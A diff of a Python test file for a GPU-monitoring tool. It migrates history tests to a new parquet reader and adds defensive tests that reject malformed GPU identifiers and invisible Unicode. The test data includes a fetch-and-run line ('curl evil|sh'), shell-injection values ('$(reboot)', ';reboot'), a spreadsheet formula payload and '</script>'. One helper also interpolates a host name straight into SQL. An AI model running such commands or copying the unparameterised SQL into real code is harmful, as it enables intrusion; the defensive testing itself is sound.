@@ -9,7 +9,7 @@ import re
 import unicodedata
 from collections.abc import Iterable, Iterator, Sequence
 from dataclasses import replace
-from datetime import timedelta
+from datetime import datetime, timedelta
 from functools import cache
 from html.parser import HTMLParser
 from pathlib import Path
@@ -54,21 +54,22 @@ from gpumon_static.publish.page.view import build_page
 from gpumon_static.store import events_file, snapshot
 from gpumon_static.store.columns import COLUMNS
 from gpumon_static.store.events import Event, EventGpu, EventMemory
+from gpumon_static.store.history import past as history_past
 from gpumon_static.store.history import questions
-from gpumon_static.store.history.database import reading as reading_history
-from gpumon_static.store.history.database import writing as writing_history
-from gpumon_static.store.history.past import timelines
-from gpumon_static.store.history.past.last_day import NO_BYTE, NO_WATTS
+from gpumon_static.store.history.engine import open_engine
+from gpumon_static.store.history.layout import read_listing
+from gpumon_static.store.history.reader import Period, Reader, ask
 from gpumon_static.store.history.record import add, record
 from gpumon_static.survey.changes import note_changes
 from gpumon_static.survey.news import tell
 from gpumon_static.survey.offers import Wanted, offers
 from gpumon_static.survey.sightings import sightings
 from gpumon_static.survey.state import gpu_state
-from gpumon_static.terminal import free, reports
+from gpumon_static.terminal import free
+from gpumon_static.terminal.history import reports
 from gpumon_static.terminal.rows import Look
 from gpumon_static.terminal.show import Choice, survey_of, table
-from gpumon_static.text import one_line
+from gpumon_static.text import one_line, plain
 from tests.browser import OpenPage
 from tests.builders import NOW, READ_AT, busy_gpu, config, failed, gpu, host_config, process, slices
 from tests.builders import reading as a_reading
@@ -160,6 +161,12 @@ def run(folder: Path, outputs: dict[str, str | HostReading | HostError], minutes
     return settings
 
 
+def readings_of(reader: Reader, host: str) -> int:
+    rows = reader.rows(Period(0, 4_000_000_000))
+    number: int = reader.engine.value(f"SELECT count(*) FROM ({rows}) WHERE level = 3 AND host = '{host}'")
+    return number
+
+
 def page(settings: Config) -> str:
     return settings.page_path.read_text()
 
@@ -176,13 +183,11 @@ def test_a_host_that_lies_reaches_only_its_own_cards_then_and_later(tmp_path: Pa
     assert settings.csv_path.stat().st_size < 1_000_000
     run(tmp_path, {"bad": probed(), "good": GOOD}, minutes=5)
     assert 'id="host-bad:0"' in page(settings), "it is well again"
-    with reading_history(settings.history_path) as connection:
-        past = timelines.read(connection, READ_AT + timedelta(minutes=5))
-        samples = connection.execute(
-            "SELECT count(*) FROM samples JOIN gpus ON gpus.id = gpu JOIN hosts ON hosts.id = host"
-            " WHERE hosts.name = 'good'"
-        ).fetchone()
-    assert samples == (2,), "both runs are in the history"
+    now = READ_AT + timedelta(minutes=5)
+    past, readings = ask(
+        settings.history_path, lambda reader: (history_past.read(reader, now), readings_of(reader, "good"))
+    )
+    assert readings == 2, "both runs are in the history"
     assert past.gpus["good", "0"].users == ("alice",)
 
 
@@ -262,40 +267,23 @@ def test_an_error_of_ours_is_one_line_of_that_host() -> None:
     assert len(found.error) == 2000
 
 
-def test_a_database_that_holds_worse_is_read_within_the_bounds_of_now(tmp_path: Path) -> None:
+WORSE = """SELECT * REPLACE (-300 AS gpu_temperature_c, 1 << 30 AS gpu_power_w, -5 AS gpu_utilization,
+    2147483647 AS gpu_memory_used_mib, -1 AS gpu_memory_total_mib, ['ali\u202ece'] AS held_by) FROM read_parquet('{}')"""
+
+
+def test_files_that_hold_worse_break_nothing(tmp_path: Path) -> None:
+    """As another version or another program may have written them."""
     settings = run(tmp_path, {"bad": probed(), "good": GOOD})
     run(tmp_path, {"bad": probed(), "good": GOOD}, minutes=5)
     now = READ_AT + timedelta(minutes=5)
-    with writing_history(settings.history_path) as connection:
-        connection.execute("UPDATE gpu_hours SET temperature_sum = -300, power_n = 1, power_sum = 1 << 60")
-        connection.execute(
-            "UPDATE gpu_hours SET utilization_sum = -5, memory_sum = 1 << 62, memory_max = 1 << 62"
-        )
-        connection.execute("UPDATE gpu_days SET temperature_sum = -300, temperature_max = -300")
-        connection.execute("UPDATE latest SET memory = 1 << 60, memory_total = -1")
-        connection.execute("UPDATE users SET name = 'ali\u202ece'")
-        connection.execute("UPDATE pool_runs SET utilization_sum = -1000, memory_sum = -1000")
-        connection.execute("UPDATE pool_hours SET utilization_sum = -1000, free_s = -1000")
-        connection.execute(
-            "INSERT INTO gpus SELECT 1000, 'x', host, 9999999999999999, NULL, model, first_at FROM gpus WHERE id = 1"
-        )
-        connection.execute(
-            "INSERT INTO latest SELECT 1000, present, at, state, crew, utilization, weight,"
-            " counted_to, known_at, known_state, known_crew, since, taken_since, 0, 0, 0, 0 FROM latest WHERE gpu = 1"
-        )
+    with open_engine(settings.history_path) as engine:
+        for file in read_listing(settings.history_path).files():
+            engine.do(f"CREATE OR REPLACE TEMP TABLE worse AS {WORSE.format(file.path)}")
+            engine.write("SELECT * FROM worse", file.path)
     render(settings, now)
     assert "\u202e" not in page(settings)
-    assert "ali\ufffdce" in page(settings)
-    with reading_history(settings.history_path) as connection:
-        past = timelines.read(connection, now)
-        asked = questions.period(connection, 0, int(now.timestamp()))
-        told = questions.gpus(connection, asked)
+    past = ask(settings.history_path, lambda reader: _check_answers(reader, now))
     assert set(past.gpus) == {("bad", "0"), ("good", "0")}
-    for known in past.gpus.values():
-        assert known.day
-        means = known.day.utilization + known.day.memory + known.day.temperature
-        assert (set(means), set(known.day.power)) == ({NO_BYTE}, {NO_WATTS})
-    assert [(use.temperature.mean, use.temperature.most) for use in told] == [(None, None)] * 2
 
 
 def test_frost_is_drawn_at_the_bottom_of_the_chart(tmp_path: Path) -> None:
@@ -318,9 +306,9 @@ def test_a_spreadsheet_or_a_terminal_acts_upon_no_login_of_the_history(tmp_path:
     done = gpumon("history", "users", "--since", "2025-11-14", "--csv", "-c", settings.path)
     assert done.returncode == 0
     assert "\n'=cmd|'/c calc'!A1," in done.stdout
-    with reading_history(settings.history_path) as connection:
-        asked = questions.period(connection, 0, int(READ_AT.timestamp()) + 600)
-        report = reports.users_report(questions.users(connection, asked), None)
+    asked = Period(0, int(READ_AT.timestamp()) + 600)
+    uses = ask(settings.history_path, lambda reader: questions.users(reader, asked))
+    report = reports.users_report(uses, None)
     console = Console(file=io.StringIO(), width=120)
     console.print(*reports._as_table(report, asked, 120), sep="\n")
     assert "[/bold]" in console.file.getvalue()  # type: ignore[attr-defined]
@@ -410,9 +398,41 @@ def test_the_note_of_the_parser_is_kept_behind_ours() -> None:
     assert found.note == "1 value out of range (utilization 500 %); nvidia-smi's schema v99 is new here"
 
 
-def test_a_uuid_that_had_to_be_changed_is_not_known() -> None:
-    for uuid in ("u" * 97, "GPU-1 2", "GPU\u202e", "GPU-\x00"):
-        assert bounded(a_reading("a", [gpu(uuid=uuid)])).gpus[0].uuid is None
+FORMS = [
+    "GPU-2f4c77af-1111-2222-3333-444444444444",
+    "MIG-2f4c77af-1111-2222-3333-444444444444",
+    "MIG-GPU-2f4c77af-1111-2222-3333-444444444444/7/0",
+    "GPU-000102030405060708-1011121314151617",
+    "GPU-a1b2c3d4e5f60718",
+]
+NO_FORMS = [
+    "u" * 97, "GPU-1 2", "GPU\u202e", "GPU-\x00", "~!!!", "curl evil|sh", "$(reboot)", "GPU-1;reboot", "GPU-`x`",
+    "GPU-" + "1" * 93, "GPU-", "GPU-1\n", "-GPU-1", "GPU-1/../x", "GPU-\u0661",
+]  # fmt: skip
+
+
+def test_a_uuid_that_no_vendor_writes_is_not_known() -> None:
+    for uuid in FORMS:
+        assert bounded(a_reading("a", [gpu(uuid=uuid)])).gpus[0].uuid == uuid
+    for uuid in NO_FORMS:
+        slice_ = MigDevice(0, uuid=uuid)
+        (found,) = bounded(a_reading("a", [gpu(uuid=uuid, slices=(slice_,))])).gpus
+        assert (found.uuid, found.slices[0].uuid) == (None, None)
+
+
+@pytest.mark.parametrize(
+    "letter", "\u3164\u2800\u115f\u034f\ufe0f\U000e0100\u00ad\u200b\uffa0\u17b4\u180b\u1160"
+)
+def test_no_letter_of_a_host_is_invisible(letter: str) -> None:
+    """root and root with something behind it look the same."""
+    for text in (letter, f"root{letter}", f"ro{letter}ot"):
+        assert one_line(text) == text.replace(letter, "\ufffd")
+        assert plain(text) == text.replace(letter, "\ufffd")
+
+
+def test_a_letter_has_at_most_two_marks() -> None:
+    assert one_line("Việt e\u0301\u0323") == "Việt e\u0301\u0323"
+    assert one_line("Z" + "\u0301\u20dd\u0489" * 20 + "a\u0301") == "Z\u0301\u20dda\u0301"
 
 
 class Counted(tuple[MigDevice, ...]):
@@ -507,25 +527,31 @@ def _check_csv(folder: Path, readings: list[HostReading]) -> None:
         assert not [name for name, cell in row.items() if cell[:1] in set("=+-@") and name not in numbers]
 
 
-def _check_history(folder: Path, setup: Config, readings: list[HostReading]) -> timelines.Past:
+def _check_history(folder: Path, setup: Config, readings: list[HostReading]) -> history_past.Past:
+    setup = replace(setup, paths=replace(setup.paths, data=folder / "data"))
     at = max(reading.fetched_at for reading in readings)
-    with writing_history(folder / "history.db") as connection:
-        add(connection, setup, sightings(readings, setup.busy), int(at.timestamp()))
-        later = [replace(r, fetched_at=r.fetched_at + timedelta(minutes=5)) for r in readings]
-        then = at + timedelta(minutes=5)
-        add(connection, setup, sightings(later, setup.busy), int(then.timestamp()))
-    with reading_history(folder / "history.db") as connection:
-        past = timelines.read(connection, then)
-        asked = questions.period(connection, int(at.timestamp()) - 86400, int(then.timestamp()))
-        for report in (
-            reports.users_report(questions.users(connection, asked), None),
-            reports.gpus_report(questions.gpus(connection, asked), by_host=False),
-            reports.gpus_report(questions.hosts(connection, asked), by_host=True),
-        ):
-            _clean(reports._as_lines(report))
-            json.loads(reports._as_json(report, asked))
-            assert len(reports._as_table(report, asked, 80)) >= 3
-    return past
+    said: list[str] = []
+    for minutes in (0, 5):
+        run = [replace(r, fetched_at=r.fetched_at + timedelta(minutes=minutes)) for r in readings]
+        snapshot.write(setup.csv_path, run)
+        add(setup, sightings(run, setup.busy), at + timedelta(minutes=minutes), said.append)
+    assert {line.split(" sent ")[1].split(" processes ")[-1] for line in said} <= {
+        "with too much text: left out"
+    }
+    return ask(setup.history_path, lambda reader: _check_answers(reader, at + timedelta(minutes=5)))
+
+
+def _check_answers(reader: Reader, now: datetime) -> history_past.Past:
+    asked = questions.period(reader, int(now.timestamp()) - 86400, int(now.timestamp()))
+    for report in (
+        reports.users_report(questions.users(reader, asked), None),
+        reports.gpus_report(questions.gpus(reader, asked), by_host=False),
+        reports.gpus_report(questions.hosts(reader, asked), by_host=True),
+    ):
+        _clean(reports._as_lines(report))
+        json.loads(reports._as_json(report, asked))
+        assert len(reports._as_table(report, asked, 80)) >= 3
+    return history_past.read(reader, now)
 
 
 def _check_events(folder: Path, setup: Config, readings: list[HostReading]) -> EventMemory:
@@ -555,7 +581,7 @@ def _check_exports(setup: Config, readings: list[HostReading], memory: EventMemo
     return document
 
 
-def _check_page(setup: Config, readings: list[HostReading], past: timelines.Past | None) -> str:
+def _check_page(setup: Config, readings: list[HostReading], past: history_past.Past | None) -> str:
     html = render_page(build_page(readings, setup, NOW, past=past))
     assert len(html) < LARGEST_PAGE * len(readings)
     found = _Reader()
@@ -662,9 +688,11 @@ def test_the_pages_own_scripts_take_whatever_passed_the_gate(open_page: OpenPage
     setup = _setup(readings)
     html = _check_page(setup, readings, _check_history(tmp_path, setup, readings))
     opened = open_page(html)
-    opened.page.wait_for_function("() => gpumon.hosts?.length > 0")
-    assert opened.page.evaluate("() => gpumon.hosts.length") == len(readings)
-    shown = opened.page.evaluate("() => gpumon.hosts.find((host) => host.name === 'first').gpus[0].names")
+    opened.page.wait_for_function("() => gpumon.state.hosts?.length > 0")
+    assert opened.page.evaluate("() => gpumon.state.hosts.length") == len(readings)
+    shown = opened.page.evaluate(
+        "() => gpumon.state.hosts.find((host) => host.name === 'first').gpus[0].names"
+    )
     assert set(shown) == {"__proto__", "</script>", "a\ufffdb", "constructor", "toString"}
     search = opened.page.locator("input[type=search]").first
     for text in ("constructor", "<", "\ufffd", ""):
